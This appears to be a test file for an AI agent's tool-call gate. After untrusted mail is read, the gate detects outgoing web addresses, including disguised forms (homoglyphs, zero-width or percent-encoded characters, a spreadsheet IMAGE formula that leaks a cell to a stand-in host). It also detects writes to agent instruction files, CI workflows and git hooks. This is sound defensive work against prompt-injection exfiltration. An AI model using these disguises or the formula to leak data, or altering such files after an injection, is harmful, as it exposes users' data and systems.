// Addresses in what a server's tool sends or keeps, and files that others obey, once text of strangers was
// read. What follows for rules, settings and lasting answers is in test/mcp/injection.
import { describe, expect, it } from 'vitest'
import type { Category } from '../../contract/call/category.ts'
import type { Manifest } from '../../contract/call/manifest.ts'
import { noTaint } from '../../contract/call/origin.ts'
import type { ArgumentOrigin, SourceLabel, Taint } from '../../contract/call/origin.ts'
import { CallId } from '../../contract/ids.ts'
import type { Json } from '../../contract/json.ts'
import { argumentsWithNamelessAddress } from '../../main/gate/raises/address-raise.ts'
import { guardedArguments } from '../../main/gate/raises/guarded-argument-raise.ts'
import { addressesIn } from '../../main/gate/raises/text-addresses.ts'
import { tool } from './decision-requests.ts'

const source = (label: SourceLabel) => ({
  callId: CallId.parse('call_aaaaaaaaaaaa'),
  tool: 'mail__read_mail',
  from: 'the server mail',
  label,
})
const strangers: Taint = { ...noTaint, untrustedRead: [source('untrusted')] }
const found = (pointer: string, label: SourceLabel, part?: string): ArgumentOrigin => ({
  pointer,
  origin: { kind: 'tool', source: source(label) },
  content: true,
  ...(part === undefined ? {} : { part }),
})
type Kind = { readonly sends: boolean; readonly changes: boolean; readonly category: Category }
const chat: Kind = { sends: true, changes: true, category: 'comms' }
const manifest = ({ sends, changes, category }: Kind): Manifest =>
  tool('chat__post', 'R3', {
    builtIn: false,
    category,
    external: {
      sourceId: 'mcp.chat.post',
      labels: {
        id: 'comms.chat.post',
        category,
        effects: [],
        readsPrivate: false,
        readsUntrusted: false,
        sends: sends ? { to: ['/channel'] } : null,
      },
      decided: true,
      changes,
      args: ['/channel', '/text'],
    },
  })
const nameless = (
  text: Json,
  {
    origins = [],
    kind = chat,
    taint = strangers,
  }: {
    readonly origins?: readonly ArgumentOrigin[]
    readonly kind?: Kind
    readonly taint?: Taint
  } = {},
): readonly string[] =>
  argumentsWithNamelessAddress({
    manifest: manifest(kind),
    args: { channel: '#team', text },
    origins,
    taint,
  })

describe('addresses in a text', () => {
  it.each<[string, string, readonly string[]]>([
    ['a page', 'Look: https://collect.example/in?d=1', ['collect.example']],
    ['a page of whatever scheme', 'ftp://collect.example', ['collect.example']],
    ['a page without a scheme', '<img src=//collect.example/x>', ['collect.example']],
    [
      'a page with somebody before it',
      'https://docs.example@collect.example/',
      ['collect.example'],
    ],
    ['a page by its number', 'http://[2001:db8::1]/x', ['[2001:db8::1]']],
    ['a page taken apart', 'hxxps://collect[.]example/in', ['collect.example']],
    ['a page with signs nobody sees', 'https://col\u200blect.example/', ['collect.example']],
    ['a page in wide letters', 'ｈｔｔｐｓ://ｃｏｌｌｅｃｔ.example/', ['collect.example']],
    ['a page in percent signs', 'https%3A%2F%2Fcollect%2Eexample%2Fin', ['collect.example']],
    ['a page in other letters', 'https://сollect.example/', ['сollect.example']],
    ['a page as a chat writes it', 'see collect.example/in', ['collect.example']],
    ['a formula', '=IMAGE("https://collect.example/"&B2)', ['collect.example']],
    ['a mailbox', 'write to kim@collect.example.', ['collect.example']],
    ['a name that is called', 'cc @kim-collect', ['kim-collect']],
    ['everybody of a chat', '<!everyone> look', ['!everyone']],
    ['none: files', 'See src/list.ts, report.md and docs/a.md/b', []],
    ['none: this machine', 'http://localhost:3000/x and http://127.0.0.1/', []],
    ['none: names of forms', 'xmlns="http://www.w3.org/2000/svg"', []],
    ['none: a package and a decorator in code', 'import x from "@scope/name" // a@2', []],
    ['none: prose', 'At 10:30, e.g. with 1.5 of them; and/or later.', []],
  ])('%s', (_, text, addresses) => expect(addressesIn(text)).toEqual(addresses))
})

const link = 'Look: https://collect.example/in?d=1'
describe('an address that nothing explains', () => {
  it.each<[string, Json, readonly ArgumentOrigin[]]>([
    ['in a text', link, []],
    ['in a list', ['a', link], []],
    ['in an object', { blocks: [{ text: link }] }, []],
    ['as a name in an object', { 'https://collect.example': 1 }, []],
    ['where another one is told', link, [found('/text', 'person', 'docs.example')]],
    ['where it is told elsewhere', link, [found('/channel', 'person', 'collect.example')]],
  ])('asks %s', (_, text, origins) => expect(nameless(text, { origins })).toEqual(['/text']))

  it.each<[string, Parameters<typeof nameless>[1]]>([
    ['a file of the person has it', { origins: [found('/text', 'person', 'collect.example/in')] }],
    ['all of the text was read', { origins: [found('/text', 'private')] }],
    ['no text of strangers was read', { taint: noTaint }],
    ['the tool only looks', { kind: { ...chat, changes: false } }],
    ['the tool keeps to itself', { kind: { ...chat, sends: false, category: 'fs' } }],
  ])('does not where %s', (_, given) => expect(nameless(link, given)).toEqual([]))

  it('asks also where a tool only stores it, if somebody may obey it later', () => {
    for (const category of ['memory', 'schedule', 'system'] as const)
      expect(nameless(link, { kind: { sends: false, changes: true, category } })).toEqual(['/text'])
  })
})

describe('a file that others obey', () => {
  const guarded = (value: Json, kind: Kind = chat, taint = strangers): readonly string[] =>
    guardedArguments({ manifest: manifest(kind), args: { value }, taint })
  it.each<[string, Json, string]>([
    ['by its name', 'AGENTS.md', 'AGENTS.md'],
    ['in a folder', 'shop/.github/workflows/ci.yml', 'shop/.github/workflows/ci.yml'],
    ['from the root', '/srv/shop/.envrc', '/srv/shop/.envrc'],
    ['with other slashes', 'shop\\CLAUDE.md', 'shop\\CLAUDE.md'],
    [
      'in a list of files',
      [{ path: '.git/hooks/post-commit', content: 'x' }],
      '.git/hooks/post-commit',
    ],
  ])('is known %s', (_, value, path) => expect(guarded(value)).toEqual([path]))

  it.each<[string, Json]>([
    ['a plain file', 'src/list.ts'],
    ['a repository with such a name', 'me/config'],
    ['a text that speaks of one', 'Look at AGENTS.md please'],
    ['a page with such a name', 'https://docs.example/AGENTS.md'],
  ])('is not %s', (_, value) => expect(guarded(value)).toEqual([]))

  it('asks only of what changes something, after text of strangers', () => {
    expect(guarded('AGENTS.md', { ...chat, changes: false })).toEqual([])
    expect(guarded('AGENTS.md', chat, noTaint)).toEqual([])
  })
})
